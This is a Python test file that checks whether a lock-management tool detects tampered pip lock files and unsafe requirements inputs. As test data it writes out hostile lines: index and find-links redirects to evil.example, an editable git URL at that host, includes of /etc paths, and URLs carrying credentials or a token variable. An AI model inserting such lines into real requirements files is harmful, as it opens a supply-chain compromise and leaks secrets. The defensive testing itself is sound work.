"""Attacks on locks and their inputs: each asserts the exact verdict and message.

The threat model: someone edits a committed lock (by hand, in a pull request, by a bad
merge) or writes requirements that pip reads differently from nox-support, hoping that a
tampered lock is called fresh, that an installer contacts their index, or that a secret
lands in a committed lock.
"""

from __future__ import annotations

import os
import stat
from pathlib import Path

import pytest

from nox_support.core.errors import LockValidationError, RequirementsFileError
from nox_support.lock import freshness as fresh
from nox_support.lock import lockfile
from nox_support.lock.compile.interface import KeepPins
from nox_support.lock.model import LockOffGrammar
from nox_support.lock.orchestrate import LockArgs, Written, lock_service, parse_lock_args
from nox_support.project import Project
from tests.fakes import FakeCompiler
from tests.repos import local_package, monorepo, write

KEEP = LockArgs(KeepPins(), force=False)
FORCE = parse_lock_args(["--force"])
LOCK = "services/api/requirements.txt"
FIX = f'fix: nox -s "lock(api)" and commit {LOCK}'
FORCED_FIX = f'fix: nox -s "lock(api)" -- --force and commit {LOCK}'
EDITED = "was edited after nox-support wrote it (its lines no longer match the body digest)"
HASH = "--hash=sha256:" + "a" * 64


def _project(root: Path, fake: FakeCompiler) -> Project:
    loaded = Project.load(root)
    return Project(loaded.root, loaded.settings, loaded.services, fake)


def _locked(tmp_path: Path, requirements: str = "alpha\n") -> tuple[Project, Path]:
    project = _project(monorepo(tmp_path, {"api": requirements}), FakeCompiler())
    lock_service(project, project.service("api"), KEEP)
    return project, project.root / LOCK


def _lock(project: Project, args: LockArgs = KEEP) -> tuple[object, ...]:
    return lock_service(project, project.service("api"), args)


def _verdict(project: Project) -> fresh.Verdict:
    service = project.service("api")
    return fresh.check_layer(project, service, service.main)


def _message(project: Project) -> str:
    return fresh.describe(_verdict(project))


# --- The lock proves its own body -------------------------------------------------------


def _off(line: int, reason: str, excerpt: str) -> str:
    return f"line {line} is outside the lock grammar ({reason}: {excerpt!r})"


@pytest.mark.parametrize(
    ("edit", "problem"),
    [
        (lambda t: t.replace("alpha==1.0", "alpha==0.9"), EDITED),
        (lambda t: t.replace("--hash=sha256:a", "--hash=sha256:b"), EDITED),
        (lambda t: t.replace(f"    {HASH}\n", f"    {HASH} \\\n    --hash=sha256:{'b' * 64}\n"), EDITED),
        (lambda t: t.replace(f" \\\n    {HASH}", ""), _off(8, "a pin without --hash", "alpha==1.0")),
        (
            lambda t: t + "--index-url https://evil.example/simple\n",
            _off(11, "an option", "--index-url https://evil.example/simple"),
        ),
        (
            lambda t: t + "--extra-index-url https://evil.example/simple\n",
            _off(11, "an option", "--extra-index-url https://evil.example/simple"),
        ),
        (
            lambda t: t + "--find-links https://evil.example/\n",
            _off(11, "an option", "--find-links https://evil.example/"),
        ),
        (
            lambda t: t + "-e git+https://evil.example/x.git#egg=x\n",
            _off(11, "an editable requirement", "-e git+https://evil.example/x.git#egg=***"),
        ),
        (
            lambda t: t + "--ind=https://evil.example/simple\n",
            _off(11, "an option", "--ind=https://evil.example/simple"),
        ),
        (lambda t: t + "--no-require-hashes\n", _off(11, "an option", "--no-require-hashes")),
        (lambda t: t + "--no-req\n", _off(11, "an option", "--no-req")),
        (lambda t: t + "-r /etc/other.txt\n", _off(11, "an include of another file", "-r /etc/other.txt")),
        (
            lambda t: t + "-r https://user:s3cret@evil.example/x.txt\n",
            _off(11, "an include of another file", "-r https://***@evil.example/x.txt"),
        ),
    ],
    ids=[
        "version",
        "hash-edited",
        "hash-injected",
        "hash-removed",
        "index-url",
        "extra-index-url",
        "find-links",
        "editable-url",
        "abbreviated-index-url",
        "no-require-hashes",
        "abbreviated-no-require-hashes",
        "include",
        "include-with-credentials",
    ],
)
def test_offline_freshness_sees_every_edit_of_the_body(tmp_path: Path, edit: object, problem: str) -> None:
    project, lock = _locked(tmp_path)
    lock.write_text(edit(lock.read_text()))  # type: ignore[operator]
    verdict = _verdict(project)
    assert isinstance(verdict, fresh.AlteredLock)
    assert fresh.describe(verdict) == f"api: {LOCK} {problem}; {FIX} (it recompiles from the inputs alone)"


def test_a_lock_truncated_at_any_line_is_never_fresh(tmp_path: Path) -> None:
    project, lock = _locked(tmp_path)
    full = lock.read_text()
    lines = full.splitlines(keepends=True)
    marker = next(i for i, line in enumerate(lines) if line.startswith("# nox-support-inputs:"))
    for keep in range(len(lines)):
        lock.write_text("".join(lines[:keep]))
        message = _message(project)
        if keep == 0:
            assert message == f"api: {LOCK} is empty; {FIX}"
        elif keep <= marker:
            assert message == (
                f"api: {LOCK} has no nox-support inputs line (written by hand or by another tool); {FIX}"
            )
        elif lines[keep - 1].endswith("\\\n"):
            reason = "the last pin continues past the end of the file"
            excerpt = lines[keep - 1].strip()
            assert message.startswith(f"api: {LOCK} {_off(keep, reason, excerpt)}"), keep
        else:
            assert message.startswith(f"api: {LOCK} {EDITED}"), keep
    lock.write_text(full)
    assert isinstance(_verdict(project), fresh.FreshLock)


def test_a_recomputed_body_digest_does_not_launder_an_index_option(tmp_path: Path) -> None:
    project, lock = _locked(tmp_path)
    tampered = lock.read_text() + "--index-url https://evil.example/simple\n"
    state = lockfile.inspect(tampered, path=LOCK)
    assert isinstance(state, LockOffGrammar)
    service = project.service("api")
    from nox_support.lock.orchestrate import current_digest  # noqa: PLC0415

    current = current_digest(project, service, service.main)
    lock.write_text(lockfile.with_digest_line(tampered, current, compiled_by="fake==1.0"))
    assert _message(project) == (
        f"api: {LOCK} {_off(11, 'an option', '--index-url https://evil.example/simple')}; "
        f"{FIX} (it recompiles from the inputs alone)"
    )


def test_an_altered_lock_is_recompiled_without_its_pins_or_hashes(tmp_path: Path) -> None:
    fake = FakeCompiler()
    project = _project(monorepo(tmp_path, {"api": "alpha\n"}), fake)
    _lock(project)
    lock = project.root / LOCK
    lock.write_text(lock.read_text().replace("alpha==1.0", "alpha==0.9"))
    (outcome,) = _lock(project)
    assert outcome == Written(
        project.service("api").main,
        changed=True,
        note=f"{EDITED}: recompiled from its inputs alone",
    )
    assert fake.seeds[-1] == ""  # nothing of the edited lock reached the compiler
    assert not fake.calls[-1].reuse_hashes
    assert isinstance(_verdict(project), fresh.FreshLock)


def test_force_never_reuses_hashes(tmp_path: Path) -> None:
    fake = FakeCompiler()
    project = _project(monorepo(tmp_path, {"api": "alpha\n"}), fake)
    _lock(project)
    write(project.root / "services/api/requirements.in", "alpha>=1\n")
    _lock(project)
    _lock(project, FORCE)
    assert [call.reuse_hashes for call in fake.calls[1:]] == [True, False]


@pytest.mark.slow
@pytest.mark.usefixtures("offline_index")
def test_a_hand_downgraded_pin_is_repaired_by_lock_force(tmp_path: Path) -> None:
    root = monorepo(tmp_path, {"api": "alpha\n"})
    project = Project.load(root)
    _lock(project)
    lock = root / LOCK
    good = lock.read_text()
    assert "alpha==2.0 " in good
    lock.write_text(good.replace("alpha==2.0", "alpha==1.1"))  # keeps 2.0's hash
    assert _message(project) == f"api: {LOCK} {EDITED}; {FIX} (it recompiles from the inputs alone)"
    _lock(project, FORCE)
    assert lock.read_text() == good
    assert isinstance(_verdict(project), fresh.FreshLock)


# --- audit and tests never install from a lock they cannot trust ------------------------


def test_tests_session_refuses_an_altered_lock_before_any_install(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from nox_support.ci.tests_session import run_tests  # noqa: PLC0415
    from nox_support.core.errors import StaleLockError  # noqa: PLC0415
    from nox_support.venv import sync as venv_sync  # noqa: PLC0415

    def no_install(*_args: object, **_kwargs: object) -> None:
        pytest.fail("an installer was started")

    monkeypatch.setattr(venv_sync, "sync_venv", no_install)
    project, lock = _locked(tmp_path)
    write(project.root / "services/api/tests/test_x.py", "def test_x(): pass\n")
    lock.write_text(lock.read_text() + "--index-url https://evil.example/simple\n")
    with pytest.raises(StaleLockError) as info:
        run_tests(None, project, "api")  # type: ignore[arg-type]
    assert str(info.value) == (
        f"unusable lock: api: {LOCK} {_off(11, 'an option', '--index-url https://evil.example/simple')}; "
        f"{FIX} (it recompiles from the inputs alone)\n  hint: nothing was installed from it"
    )
    write(project.root / "services/api/requirements.in", "alpha>=1\n")
    lock.write_text(lock.read_text().replace("--index-url https://evil.example/simple\n", ""))
    with pytest.raises(StaleLockError) as info:
        run_tests(None, project, "api")  # type: ignore[arg-type]
    assert str(info.value) == (
        f'stale lock: run nox -s "lock(api)" and commit {LOCK} (requirements.in changed)\n'
        "  hint: nothing was installed from it"
    )


class _AuditSession:
    """The parts of ``nox.Session`` an audit uses before it syncs anything."""

    posargs: tuple[str, ...] = ()

    def __init__(self) -> None:
        self.messages: list[str] = []

    def notify(self, target: str) -> None:
        del target

    def log(self, message: str) -> None:
        self.messages.append(message)

    warn = log


def _append_index(root: Path) -> None:
    lock = root / LOCK
    lock.write_text(lock.read_text() + "--index-url https://evil.example/simple\n")


def _change_inputs(root: Path) -> None:
    write(root / "services/api/requirements.in", "alpha>=1\n")


def _remove_lock(root: Path) -> None:
    (root / LOCK).unlink()


@pytest.mark.parametrize(
    ("edit", "error"),
    [
        (
            _append_index,
            (
                f"unusable lock: api: {LOCK} "
                f"{_off(11, 'an option', '--index-url https://evil.example/simple')}; "
                f"{FIX} (it recompiles from the inputs alone)"
            ),
        ),
        (_change_inputs, f'stale lock: run nox -s "lock(api)" and commit {LOCK} (requirements.in changed)'),
        (_remove_lock, f"unusable lock: api: {LOCK} is missing; {FIX}"),
    ],
    ids=["index-url", "stale", "missing"],
)
def test_audit_is_an_error_and_installs_nothing_from_an_unusable_lock(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, edit: object, error: str
) -> None:
    import json  # noqa: PLC0415

    from nox_support.audit.session import AuditFailedError, run_audit  # noqa: PLC0415
    from nox_support.venv import sync as venv_sync  # noqa: PLC0415

    def no_install(*_args: object, **_kwargs: object) -> None:
        pytest.fail("an installer was started")

    monkeypatch.setattr(venv_sync, "synced", no_install)
    project = _locked(tmp_path)[0]
    monkeypatch.chdir(project.root)
    edit(project.root)  # type: ignore[operator]
    with pytest.raises(AuditFailedError) as info:
        run_audit(_AuditSession(), project, "api")  # type: ignore[arg-type]
    report = json.loads((project.root / "reports/audit/api.json").read_text(encoding="utf-8"))
    assert report["status"] == "error"
    assert report["errors"] == [f"{error}\n  hint: nothing was installed from it"]
    assert error in str(info.value)


# --- No secret in a lock ----------------------------------------------------------------


@pytest.mark.parametrize(
    ("line", "shown"),
    [
        ("pkg @ http://${GH_TOKEN}@host.example/pkg.whl", "pkg @ http://***@host.example/pkg.whl"),
        ("pkg @ https://user:s3cret@host.example/pkg.whl", "pkg @ https://***@host.example/pkg.whl"),
        ("pkg @ https://host.example/pkg.whl?token=s3cret", "pkg @ https://host.example/pkg.whl?token=***"),
        (
            "--index-url https://user:s3cret@host.example/simple",
            "--index-url https://***@host.example/simple",
        ),
        ("pkg==${VERSION}", "pkg==${VERSION}"),
    ],
)
def test_a_credential_in_the_inputs_is_refused_before_the_compiler_starts(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, line: str, shown: str
) -> None:
    monkeypatch.setenv("GH_TOKEN", "s3cret")
    fake = FakeCompiler()
    project = _project(monorepo(tmp_path, {"api": f"alpha\n{line}\n"}), fake)
    with pytest.raises(RequirementsFileError) as info:
        _lock(project)
    assert str(info.value) == (
        f"services/api/requirements.in:2: names a credential or an environment variable ({shown})\n"
        "  hint: pip-tools would write its expanded value into the lock; keep credentials in "
        "~/.netrc, a keyring or the index settings outside the repository (pip.conf, PIP_INDEX_URL, "
        "uv.toml) and name only the plain location here"
    )
    assert "s3cret" not in str(info.value)
    assert fake.calls == []
    assert not (project.root / LOCK).exists()


def test_a_credential_in_the_compiler_output_never_reaches_the_lock(tmp_path: Path) -> None:
    body = "pkg @ https://s3cret@host.example/pkg.whl\n    # via -r requirements.in\n"
    project = _project(monorepo(tmp_path, {"api": "pkg\n"}), FakeCompiler(body=body))
    with pytest.raises(LockValidationError) as info:
        _lock(project)
    assert str(info.value).startswith(
        f"refusing to write {LOCK}: {_off(8, 'a direct URL', 'pkg @ https://***@host.example/pkg.whl')}"
    )
    assert "s3cret" not in str(info.value)
    assert not (project.root / LOCK).exists()


def test_session_errors_are_redacted(tmp_path: Path) -> None:
    from nox_support.core.errors import NoxSupportError  # noqa: PLC0415
    from nox_support.sessions import boundary  # noqa: PLC0415

    class Session:
        def error(self, message: str) -> None:
            raise SystemExit(message)

    with pytest.raises(SystemExit) as info, boundary(Session()):  # type: ignore[arg-type]
        raise NoxSupportError("pip failed on https://user:s3cret@host.example/pkg.whl?token=abc")
    assert str(info.value) == "pip failed on https://***@host.example/pkg.whl?token=***"
    del tmp_path


# --- Inputs are read as pip reads them ---------------------------------------------------


@pytest.mark.parametrize(
    ("line", "message"),
    [
        (
            "--requirem=/etc/hostname",
            "services/api/requirements.in:2: --requirem abbreviates --requirement",
        ),
        ("--constr other.txt", "services/api/requirements.in:2: --constr abbreviates --constraint"),
        ("--edit ../../libs/common", "services/api/requirements.in:2: --edit abbreviates --editable"),
    ],
)
def test_abbreviated_options_are_refused(tmp_path: Path, line: str, message: str) -> None:
    fake = FakeCompiler()
    root = monorepo(tmp_path, {"api": f"alpha\n{line}\n"})
    write(root / "services/api/other.txt", "alpha<3\n")
    local_package(root / "libs/common", "common")
    project = _project(root, fake)
    with pytest.raises(RequirementsFileError) as info:
        _lock(project)
    full = message.rsplit(" ", 1)[1]
    assert str(info.value) == (
        f"{message}\n  hint: write {full} in full: uv refuses abbreviations, and every tool must read "
        "the file the same way"
    )
    assert fake.calls == []


@pytest.mark.parametrize("compiler", ["pip-tools", "uv"])
@pytest.mark.parametrize(
    ("files", "message"),
    [
        (
            {"requirements.in": "-r a.in\n", "a.in": "alpha\n-r requirements.in\n"},
            (
                "services/api/a.in:2: -r/-c cycle: services/api/requirements.in -> services/api/a.in -> "
                "services/api/requirements.in\n"
                "  hint: remove one of these includes (pip would recurse without end)"
            ),
        ),
        (
            {"requirements.in": "alpha\n--frobnicate\n"},
            "services/api/requirements.in:2: unknown or ambiguous option '--frobnicate'",
        ),
        (
            {"requirements.in": "alpha\n--re x.in\n"},
            "services/api/requirements.in:2: unknown or ambiguous option '--re'",
        ),
    ],
    ids=["cycle", "unknown", "ambiguous"],
)
def test_cycles_and_unknown_options_give_one_message_under_both_compilers(
    tmp_path: Path, compiler: str, files: dict[str, str], message: str
) -> None:
    root = monorepo(tmp_path, {}, pyproject=f'[tool.nox_support]\ncompiler = "{compiler}"\n')
    for name, text in files.items():
        write(root / "services/api" / name, text)
    project = Project.load(root)
    with pytest.raises(RequirementsFileError) as info:
        _lock(project)
    assert str(info.value).startswith(message)
    assert not (root / LOCK).exists()


def test_a_file_url_inside_the_repository_is_tracked_like_a_relative_path(tmp_path: Path) -> None:
    root = monorepo(tmp_path, {"api": ""})
    local_package(root / "libs/common", "common")
    write(root / "services/api/requirements.in", f"common @ file://{root.resolve()}/libs/common\n")
    project = _project(root, FakeCompiler())
    _lock(project)
    assert isinstance(_verdict(project), fresh.FreshLock)
    pyproject = root / "libs/common/pyproject.toml"
    pyproject.write_text(pyproject.read_text().replace('version = "0.1.0"', 'version = "0.2.0"'))
    assert _message(project) == (f"api: {LOCK} is stale (../../libs/common/pyproject.toml changed); {FIX}")


def test_a_file_url_outside_the_repository_is_refused(tmp_path: Path) -> None:
    outside = local_package(tmp_path / "outside", "outside")
    root = monorepo(tmp_path / "repo", {"api": f"outside @ file://{outside}\n"})
    with pytest.raises(RequirementsFileError) as info:
        _lock(_project(root, FakeCompiler()))
    assert str(info.value) == (
        f"services/api/requirements.in:1: local path 'file://{outside}' is outside the repository\n"
        "  hint: locks may only name local packages inside the repository, by relative path"
    )


@pytest.mark.slow
@pytest.mark.usefixtures("offline_index")
@pytest.mark.parametrize("compiler", ["pip-tools", "uv"])
def test_a_utf8_bom_is_read_as_pip_reads_it(tmp_path: Path, compiler: str) -> None:
    root = monorepo(tmp_path, {}, pyproject=f'[tool.nox_support]\ncompiler = "{compiler}"\n')
    (root / "services/api").mkdir(parents=True)
    (root / "services/api/requirements.in").write_bytes(b"\xef\xbb\xbf-r base.in\n")
    write(root / "services/api/base.in", "beta\n")
    project = Project.load(root)
    _lock(project)
    text = (root / LOCK).read_text()
    assert "\nbeta==1.1 " in text
    assert isinstance(_verdict(project), fresh.FreshLock)
    write(root / "services/api/base.in", "beta<1.1\n")
    assert _message(project) == f"api: {LOCK} is stale (base.in changed); {FIX}"


# --- Lock files on disk ------------------------------------------------------------------


def test_a_new_lock_gets_the_umask_mode(tmp_path: Path) -> None:
    previous = os.umask(0o022)
    try:
        lock = _locked(tmp_path)[1]
    finally:
        os.umask(previous)
    assert stat.S_IMODE(lock.stat().st_mode) == 0o644


def test_a_non_utf8_lock_is_named_and_force_repairs_it(tmp_path: Path) -> None:
    project, lock = _locked(tmp_path)
    good = lock.read_bytes()
    lock.write_bytes(good[:40] + b"\xff\xfe" + good[40:])
    assert _message(project) == f"api: {LOCK} is not UTF-8 text (byte 0xff at offset 40); {FORCED_FIX}"
    _lock(project, FORCE)
    assert lock.read_bytes() == good


def test_a_directory_at_the_lock_path_is_named_and_force_repairs_it(tmp_path: Path) -> None:
    project, lock = _locked(tmp_path)
    good = lock.read_bytes()
    lock.unlink()
    lock.mkdir()
    assert _message(project) == f"api: {LOCK} is a directory, not a lock file; {FORCED_FIX}"
    with pytest.raises(lockfile.LockFileError) as info:
        _lock(project)
    assert str(info.value) == (
        f"{LOCK} is a directory, not a lock file\n"
        f'  hint: remove it, or run nox -s "lock(api)" -- --force (removes it when empty)'
    )
    _lock(project, FORCE)
    assert lock.read_bytes() == good


def test_an_unwritable_directory_gives_one_message_and_writes_nothing(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import tempfile  # noqa: PLC0415

    project = _project(monorepo(tmp_path, {"api": "alpha\n"}), FakeCompiler())
    service_dir = project.root / "services/api"
    before = sorted(p.name for p in service_dir.iterdir())

    def refuse(*_args: object, **_kwargs: object) -> tuple[int, str]:
        # What mkstemp raises in a read-only directory (root ignores chmod, so it is simulated).
        raise PermissionError(13, "Permission denied")

    monkeypatch.setattr(tempfile, "mkstemp", refuse)
    with pytest.raises(lockfile.LockFileError) as info:
        _lock(project)
    assert str(info.value) == (
        f"cannot write the lock requirements.txt in {service_dir}: Permission denied\n"
        f"  hint: make {service_dir} writable (nothing was written; the previous lock, if any, is unchanged)"
    )
    assert sorted(p.name for p in service_dir.iterdir()) == before


def test_the_next_run_removes_temporaries_a_killed_run_left(tmp_path: Path) -> None:
    project, lock = _locked(tmp_path)
    left = [
        lock.parent / ".nox-support-requirements.txt.k9x2.tmp",
        lock.parent / ".nox-support-requirements.txt.abcd.tmp",
    ]
    for path in left:
        path.write_text("half a lock")
    unrelated = lock.parent / ".nox-support-other.tmp"
    unrelated.write_text("not ours")
    _lock(project)  # fresh: nothing compiles, but the leftovers go
    assert [path.exists() for path in left] == [False, False]
    assert unrelated.exists()


# --- Digest normalisation ------------------------------------------------------------------


def test_comment_and_whitespace_edits_keep_the_lock_fresh(tmp_path: Path) -> None:
    project, _lock_path = _locked(tmp_path, "alpha>=1\nbeta\n")
    source = project.root / "services/api/requirements.in"
    source.write_text("# why we need alpha\nalpha>=1   # pinned below 2 elsewhere\n\n  beta  \r\n\n")
    assert isinstance(_verdict(project), fresh.FreshLock)
    source.write_text("alpha>=1 \\\n  # a comment inside a continuation\nbeta\n")
    assert isinstance(_verdict(project), fresh.FreshLock)
    source.write_text("alpha>=1\nbeta\ngamma\n")
    assert _message(project) == f"api: {LOCK} is stale (requirements.in changed); {FIX}"
